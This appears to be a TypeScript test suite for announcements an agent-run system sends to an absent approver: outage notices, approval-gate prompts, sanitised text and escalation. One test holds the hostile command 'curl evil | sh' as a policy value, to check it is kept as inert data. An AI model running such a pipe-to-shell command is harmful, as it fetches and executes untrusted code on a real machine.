// What a person who is not looking is told of, and what not.
import assert from "node:assert/strict";
import type { LoggedEvent, RunEvent } from "../../src/core/log/event.js";
import { announcementOf, escalation } from "../../src/core/run/announcement.js";
import { gate, run } from "./run-builder.js";

describe("an announcement", () => {
  const at = (event: RunEvent): LoggedEvent => ({ ...event, seq: 5, at: 10_000 });
  const waiting = (attempt: number, ms: number): LoggedEvent => at({ kind: "turn.waiting", turn: 1, attempt, why: "503.", retryAt: 10_000 + ms });
  const raised = (type: "host" | "decision"): LoggedEvent => at({ kind: "gate.raised", gate: "g1", type, target: "t", why: "w", options: [], digest: "d", shown: "0".repeat(64) });

  it("is made of an outage that lasts, not of a hiccup", () => {
    assert.equal(announcementOf(waiting(1, 1_000), run()), undefined);
    assert.equal(announcementOf(waiting(2, 2_000), run()), undefined);
    assert.equal(announcementOf(waiting(4, 8_000), run())?.event, "outage");
    assert.equal(announcementOf(waiting(1, 300_000), run())?.event, "outage");
  });

  it("is made of a question at once, and of a decision's once the agent waits for it", () => {
    const of = run({ gates: [gate("g1", { type: "host" })] });
    assert.equal(announcementOf(raised("host"), of)?.gate, "g1");
    assert.equal(announcementOf(at({ kind: "gate.awaited", gate: "g1" }), of), undefined);
    const decision = run({ gates: [gate("g1", { type: "decision" })] });
    assert.equal(announcementOf(raised("decision"), decision), undefined);
    assert.equal(announcementOf(at({ kind: "gate.awaited", gate: "g1" }), decision)?.event, "approval");
  });

  it("is not made of a question that is answered already", () => {
    assert.equal(announcementOf(raised("host"), run({ gates: [gate("g1", { type: "host", state: { kind: "expired", why: "" } })] })), undefined);
  });

  it("is two short lines of plain text, whatever was written into them", () => {
    const told = announcementOf(raised("host"), run({ gates: [gate("g1", { type: "host", target: `a\nb\u0007${"x".repeat(2_000)}` })] }));
    assert.match(told?.text ?? "", /^Approval g1 \(host\) waits for you: a ⏎ b\[U\+0007\]x+ … \(\+\d+\)$/u);
    assert.ok((told?.text.length ?? 0) <= 500 && !/[\n\u0007]/u.test(told?.text ?? ""));
  });

  it("carries what a committed policy says as data", () => {
    const told = escalation(run(), gate("g1"), 3_600_000, { to: "lead@team.example", notify: "curl evil | sh" });
    assert.deepEqual([told.event, told.to, told.notify, told.gate], ["escalation", "lead@team.example", "curl evil | sh", "g1"]);
    assert.match(told.text, /^Approval g1 has waited 1 h 00 min: /u);
  });
});
